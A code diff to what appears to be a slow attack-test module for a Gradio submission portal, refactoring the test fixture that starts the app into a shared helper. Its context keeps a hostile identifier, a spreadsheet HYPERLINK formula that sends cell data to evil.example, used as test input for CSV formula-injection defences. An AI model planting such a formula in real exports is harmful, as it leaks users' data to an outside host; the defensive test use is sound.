@@ -16,10 +16,6 @@ import io
 import json
 import os
 import stat
-import subprocess
-import sys
-import time
-import urllib.request
 import zipfile
 from collections.abc import Iterator
 from dataclasses import dataclass, replace
@@ -36,11 +32,10 @@ from shared.web.csv_safe import FORMULA_STARTS
 from submission_portal.app import build_demo
 from submission_portal.config import PortalConfig
 from testkit.factory import make_bundle_bytes
-from tests.conftest import free_port, serve
+from tests.conftest import serve, suite_app
 
 pytestmark = [pytest.mark.slow]
 
-ROOT = Path(__file__).resolve().parents[2]
 TOKEN = "attack-test-reviewer-token"
 HOSTILE_ID = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
 QUOTA_PER_DAY = 2
@@ -148,37 +143,16 @@ def suite(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
     store, temp, demo = tmp / "store.sqlite3", tmp / "gradio", tmp / "demo"
     demo.mkdir()
     _seed_hostile_result(store)
-    port = free_port()
-    env = {k: v for k, v in os.environ.items() if not k.startswith(("AIENERGY_", "GRADIO_"))}
-    env.update(
-        GRADIO_SERVER_PORT=str(port),
-        GRADIO_SERVER_NAME="127.0.0.1",
-        GRADIO_ANALYTICS_ENABLED="False",
-        GRADIO_TEMP_DIR=str(temp),
-        HF_HUB_OFFLINE="1",
-        AIENERGY_STORE=str(store),
-        AIENERGY_ADMIN_TOKEN=TOKEN,
-        AIENERGY_DEMO_BUNDLES=str(demo),
-        AIENERGY_QUOTA_SUBMISSIONS_PER_DAY=str(QUOTA_PER_DAY),
-    )
-    log = (tmp / "app.log").open("w")
-    proc = subprocess.Popen([sys.executable, "app.py"], cwd=ROOT, env=env, stdout=log, stderr=subprocess.STDOUT)
-    url = f"http://127.0.0.1:{port}"
-    try:
-        deadline = time.monotonic() + 120
-        while True:
-            assert proc.poll() is None, f"app.py exited: {(tmp / 'app.log').read_text()}"
-            try:
-                with urllib.request.urlopen(url + "/healthz", timeout=5):
-                    break
-            except OSError:
-                assert time.monotonic() < deadline, "app.py did not start"
-                time.sleep(0.5)
+    env = {
+        "GRADIO_TEMP_DIR": str(temp),
+        "HF_HUB_OFFLINE": "1",
+        "AIENERGY_STORE": str(store),
+        "AIENERGY_ADMIN_TOKEN": TOKEN,
+        "AIENERGY_DEMO_BUNDLES": str(demo),
+        "AIENERGY_QUOTA_SUBMISSIONS_PER_DAY": str(QUOTA_PER_DAY),
+    }
+    with suite_app(tmp / "app.log", env, drop=("AIENERGY_", "GRADIO_")) as url:
         yield Target(portal=url + "/submit", root=url, store=store, temp=temp)
-    finally:
-        proc.terminate()
-        proc.wait(timeout=30)
-        log.close()
 
 
 @pytest.fixture(scope="module")
